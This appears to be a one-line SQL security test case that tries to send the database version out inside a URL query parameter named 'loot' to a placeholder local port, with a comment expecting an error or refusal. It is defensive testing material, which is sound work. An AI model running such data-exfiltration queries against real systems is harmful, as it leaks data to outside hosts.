-- tries: send data home in an address; expect: error|told
SELECT * FROM read_text('http://127.0.0.1:__PORT__/?loot=' || (SELECT version()))
